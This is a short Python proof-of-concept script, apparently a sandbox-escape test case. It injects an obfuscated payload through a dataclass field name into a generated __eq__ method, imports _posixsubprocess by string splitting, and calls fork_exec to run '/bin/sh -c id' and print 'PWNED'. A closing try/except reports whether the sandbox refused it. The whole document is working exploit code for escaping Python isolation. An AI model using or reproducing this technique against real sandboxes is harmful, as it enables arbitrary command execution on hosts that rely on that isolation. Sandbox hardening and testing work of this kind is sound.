# proc: dataclass field name injected into generated __eq__ with enum's globals; trampoline import of _posixsubprocess inside
import dataclasses, enum, heapq
payload = ("(ps := (sys.modules['heapq'].nsmallest(1, ['_posix' + 'subprocess'], key=bltns.__import__),"
           " bltns.__import__('_posix' + 'subprocess'))[1])"
           " and (o := sys.modules['o' + 's']) and (p := o.pipe()) and (e := o.pipe()) and"
           " print('PWN' + 'ED', ps.fork_exec([b'/bin/sh', b'-c', b'id'], [b'/bin/sh'], True, (e[1],), None, None,"
           " -1, -1, -1, p[1], -1, -1, e[0], e[1], True, False, -1, None, None, None, -1, None, False),"
           " o.close(p[1]), o.read(p[0], 300))")
class C:
    __module__ = "enum"
    __annotations__ = {"__doc__," + payload + ",self.__doc__": int}
C = dataclasses.dataclass(init=False, repr=False, eq=True)(C)
try:
    C() == C()
except Exception as e:
    print("refused:", type(e).__name__, e)
